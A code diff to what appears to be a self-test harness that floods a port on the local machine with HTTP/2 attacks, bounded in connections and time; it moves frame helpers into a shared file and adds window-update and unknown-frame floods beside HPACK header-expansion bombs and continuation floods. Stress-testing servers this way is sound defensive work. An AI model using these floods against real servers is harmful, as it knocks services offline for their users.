@@ -3,6 +3,7 @@ import { connect as connectTcp, type Socket } from "node:net";
 import { connect as connectTls } from "node:tls";
 
 import type { KeyPair } from "../../host/process/serving/self-signed.ts";
+import { frame, headers, preface } from "../kit/http2-frames.ts";
 
 /**
  * One attack on a port of this machine. It is bounded in connections and time, and closes what it opened. Returns the
@@ -108,17 +109,6 @@ const pipelining =
     return opened;
   };
 
-const frame = (type: number, flags: number, stream: number, payload: Uint8Array = new Uint8Array()): Buffer => {
-  const head = Buffer.alloc(9);
-  head.writeUIntBE(payload.length, 0, 3);
-  head[3] = type;
-  head[4] = flags;
-  head.writeUInt32BE(stream, 5);
-  return Buffer.concat([head, payload]);
-};
-const preface = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0)]);
-/** `:method GET`, `:scheme https`, `:path /` and an authority, by HPACK's static table. */
-const headers = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x41, 1]), Buffer.from("x")]);
 /** A header of 3,000 bytes that the decoder is to keep, and a list that names it 8,000 times: 24 MB when expanded. */
 const largeHeader = Buffer.concat([headers, Buffer.from([0x40, 1, 0x61, 0x7f, 0xb9, 0x16]), Buffer.alloc(3_000, "a")]);
 const references = Buffer.concat([headers, Buffer.alloc(8_000, 0xbe)]);
@@ -241,6 +231,8 @@ export const attacks = {
   "HTTP/2 empty data": http2Flood((stream) => (stream === 1 ? frame(1, endHeaders, 1, headers) : frame(0, 0, 1))),
   "HTTP/2 continuations": http2Flood((stream) => (stream === 1 ? frame(1, 0, 1, headers) : frame(9, 0, 1))),
   "HTTP/2 priorities": http2Flood((stream) => frame(2, 0, stream, Buffer.from([0, 0, 0, 0, 16]))),
+  "HTTP/2 window updates": http2Flood(() => frame(8, 0, 0, Buffer.from([0, 0, 0, 1]))),
+  "HTTP/2 frames of an unknown type": http2Flood(() => frame(77, 0, 0)),
   "HTTP/2 requests whose replies have no window": http2Flood((stream) =>
     Buffer.concat([
       ...(stream === 1 ? [frame(4, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]))] : []),
